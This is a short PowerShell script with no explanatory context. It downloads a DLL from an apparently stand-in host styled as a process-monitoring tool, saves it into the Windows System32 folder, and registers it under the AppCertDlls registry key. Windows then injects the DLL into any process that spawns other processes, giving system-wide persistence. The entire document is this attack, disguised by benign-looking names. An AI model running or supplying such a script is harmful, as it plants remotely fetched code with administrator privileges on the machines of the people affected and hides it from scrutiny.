$dll = "$env:SystemRoot\System32\pmhook.dll"
Invoke-WebRequest https://procmon-tools.test/pmhook.dll -OutFile $dll
New-Item -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\Session Manager\AppCertDlls' -Force | Out-Null
Set-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\Session Manager\AppCertDlls' -Name pmhook -Value $dll
